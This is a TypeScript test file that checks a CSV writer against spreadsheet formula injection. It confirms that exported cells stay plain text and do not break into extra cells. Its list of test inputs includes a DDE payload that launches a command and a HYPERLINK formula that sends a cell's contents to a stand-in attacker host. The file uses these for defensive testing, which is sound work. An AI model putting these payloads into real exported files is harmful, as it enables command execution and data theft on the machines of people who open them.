/**
 * Files that a spreadsheet may open (`report --csv`, what `import` refused) hold no formula, whoever wrote the names
 * in them; and they are read back as what they were. `export` is JSON, which no spreadsheet runs.
 */
import { readFileSync } from 'node:fs'
import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { csvLine, csvReader } from '#core/csv'

const formulas = [
  '=1+1',
  "=cmd|'/C calc'!A0",
  '+1+1',
  '-1+1',
  '@SUM(1+1)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  ' =1+1',
  '\u00a0=1+1',
  '\ufeff=1+1',
  '\u0000=1+1',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(1)',
  '=HYPERLINK("https://evil.example?x="&A1,"click")',
  '"=1+1',
  ';=1+1',
  ',=1+1',
  'a\n=1+1',
]

const cellsOf = (line: string): string[] => {
  const reader = csvReader()
  const rows = [...reader.push(`a,b,c\n${line}`), ...reader.end()]
  return rows[1]?.cells ?? []
}

describe('a cell', () => {
  it.each(formulas)('%j is text', (formula) => {
    const [, middle = ''] = cellsOf(csvLine(['x', formula, 'y']))

    expect(middle).not.toMatch(/^[\s\0\ufeff]*[=+\-@＝＋－＠]/)
    expect(middle.replace(/^'/, '')).toBe(formula)
  })

  it('never begins another cell, whatever stands in it', () => {
    fc.assert(
      fc.property(fc.array(fc.string({ unit: 'binary' }), { minLength: 3, maxLength: 3 }), (cells) => {
        const read = cellsOf(csvLine(cells.map((cell) => `x${cell}`)))
        expect(read).toHaveLength(3)
      }),
      { numRuns: 300 },
    )
  })
})

it.each([
  ['core/report/table.ts', 'csvLine'],
  ['cli/import/loop.ts', 'csvLine'],
])('%s writes its rows by %s', (file, writer) => {
  expect(readFileSync(new URL(`../../${file}`, import.meta.url), 'utf8')).toContain(writer)
})
